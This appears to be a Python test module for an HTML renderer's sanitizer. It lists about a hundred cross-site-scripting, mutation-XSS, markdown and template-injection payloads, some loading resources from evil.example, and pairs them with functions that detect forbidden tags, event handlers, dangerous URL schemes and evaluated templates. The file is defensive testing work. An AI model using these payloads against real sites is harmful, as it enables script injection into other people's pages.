"""Payloads that want to run, and what a page may never hold."""

from __future__ import annotations

import re
from collections.abc import Iterator
from html.parser import HTMLParser
from xml.etree import ElementTree as ET

#: Scripts, handlers, addresses, frames, forms, styles, broken markup, mutations, templates.
PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src=data:,alert(1)></script>",
    "</script><script>alert(1)</script>",
    "</code></pre><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img src=`x` onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img src="x" srcset="https://evil.example/a 1x">',
    '<img src="https://evil.example/pixel.gif">',
    '<img src="//evil.example/pixel.gif">',
    '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '"><img src=x onerror=alert(1)>',
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "` onload=`alert(1)",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz4=#x\"/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=x>'>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<textarea onfocus=alert(1) autofocus>x</textarea>",
    "<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<body onload=alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=import href=data:text/html,x>",
    "<style>@import 'https://evil.example/x.css'; p{background:url(javascript:alert(1))}</style>",
    '<div style="background:url(https://evil.example/x)">x</div>',
    '<div style="position:fixed;inset:0">x</div>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="https://evil.example/" target="_blank" ping="https://evil.example/p">x</a>',
    "[x](javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](x)",
    "[x](https://e.example '\" onclick=\"alert(1)')",
    "<javascript:alert(1)>",
    "[a]: javascript:alert(1)\n\n[a]",
    "[x](claim:q\"onclick=alert(1) '\"><script>alert(1)</script>')",
    "```\"><script>alert(1)</script>\nx\n```",
    "```{note} <img src=x onerror=alert(1)>\nx\n```",
    ":::{figure} javascript:alert(1)\n:name: \"><script>x</script>\n:alt: \" onerror=\"x\nx\n:::",
    "![x](y.png){#a onclick=\"alert(1)\" style=\"x\"}",
    "(\"><script>alert(1)</script>)=\n# \"><script>alert(1)</script>",
    "$\\href{javascript:alert(1)}{x}$ $\\text{<script>alert(1)</script>}$",
    "$$\\begin{align}<img src=x onerror=alert(1)>\\label{\"onload=alert(1)}\\end{align}$$",
    "\\begin{equation}\\text{</math><script>alert(1)</script>}\\end{equation}",
    "{math}`</math><script>alert(1)</script>` {ref}`x <\"onclick=alert(1)>`",
    "[^1]: <script>alert(1)</script>\n\nx[^1]",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "<div title=\"\n\n$x$ `\" onmouseover=alert(1) x=\"`\n\n\">",
    "<pp-slot n=\"0000000000000000-0\"></pp-slot><pp-slot onclick=alert(1)>",
    "<p class=\"claim tick\" id=\"claim-q\">3,047</p><div id=main class=skip>x</div>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<x/><script>alert(1)</script>",
    "<a\x00 href=javascript:alert(1)>x</a><scr\x00ipt>alert(1)</scr\x00ipt>",
    "\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07\x1b[31m<script>alert(1)</script>",
    "\ufdd0<script>alert(1)</script>\ufdd1 \ud800 \u202e",
    "{{ 6543*7 }} {% for x in [1] %}{{ 6543*7 }}{% endfor %} {{ cycler.__init__ }} {# x #}",
    "${6543*7} #{6543*7} <%= 6543*7 %>",
)  # fmt: skip

_TAGS = """applet base body embed form frame frameset iframe link meta object script style svg
template textarea title video audio select"""
FORBIDDEN_TAGS = frozenset(_TAGS.split())
_SAFE_IMAGE = re.compile(
    r"data:image/(?:png|jpeg|gif|webp|avif|svg\+xml);base64,[A-Za-z0-9+/=]*|[0-9a-f]{16}\.\w+"
)
#: A scheme other than the three that a link may have.
_SCHEME = re.compile(r"(?![\s]*(?:https?:|mailto:))[^/?#]*:", re.IGNORECASE)
_DRAWING = frozenset(
    {"aria-label", "class", "data-file", "height", "role", "stroke-linejoin", "viewbox", "width"}
)
_OURS = frozenset({"claim", "quoted", "held", "note", "masthead", "imprint", "skip"})


class _Reader(HTMLParser):
    """Collects what is wrong with a fragment."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_TAGS and not _of_a_figure(tag, dict(attrs)):
            self.wrong.append(f"<{tag}>")
        for name, value in attrs:
            self.wrong += _wrong_attribute(tag, name, (value or "").strip())

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(f"declaration {decl!r}")

    def handle_pi(self, data: str) -> None:
        self.wrong.append(f"instruction {data!r}")

    def unknown_decl(self, data: str) -> None:
        self.wrong.append(f"declaration {data!r}")


def _of_a_figure(tag: str, attributes: dict[str, str | None]) -> bool:
    """Whether we wrote it: data that no browser runs, or a drawing. What is within them is read."""
    if tag == "script":
        return attributes == {"type": "application/json"}
    return (
        tag == "svg"
        and attributes.get("class") in ("plot", "plot plate")
        and attributes.keys() <= _DRAWING
    )


def _wrong_attribute(tag: str, name: str, value: str) -> Iterator[str]:
    if name.startswith("on") or name in (
        "style",
        "srcset",
        "srcdoc",
        "formaction",
        "ping",
        "target",
    ):
        yield f"{tag} {name}={value!r}"
    if name == "src" and not (tag == "img" and _SAFE_IMAGE.fullmatch(value)):
        yield f"{tag} {name}={value!r}"
    if name in ("href", "action", "data", "xlink:href", "cite") and _SCHEME.match(value):
        yield f"{tag} {name}={value!r}"
    copy = (tag, value) == ("small", "note side")  # of a footnote, which needs no run
    if name == "class" and _OURS & set(value.split()) and not copy:
        yield f"{tag} forges class {value!r}"
    if name == "id" and re.match(r"claim-|main$", value):
        yield f"{tag} forges id {value!r}"


def wrongs(html: str) -> list[str]:
    """Everything in a fragment that a page may not hold."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    found = reader.wrong
    if "45801" in html:
        found.append("a template was evaluated")
    found += [
        f"character {char!r}"
        for char in set(re.findall("[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff\ufdd0-\ufdef]", html))
    ]
    return found


def wrongs_in_svg(data: bytes) -> list[str]:
    """Everything in an SVG file that could run or ask another server for something."""
    found = []
    for element in ET.fromstring(data.decode("utf-8")).iter():
        name = str(element.tag).rpartition("}")[2].lower()
        if name in ("script", "foreignobject", "iframe", "handler", "listener"):
            found.append(f"<{name}>")
        for key, value in element.attrib.items():
            local = key.rpartition("}")[2].lower()
            if local.startswith("on"):
                found.append(f"{name} {local}")
            if local in ("href", "src") and not re.match(r"#|data:image/(?!svg)", value):
                found.append(f"{name} {local}={value!r}")
        css = (
            f"{element.text or ''}{element.get('style', '')}"
            if name == "style" or element.get("style")
            else ""
        )
        if re.search(r"@import|url\((?!['\"]?#)", css):
            found.append(f"{name} css {css!r}")
    return found
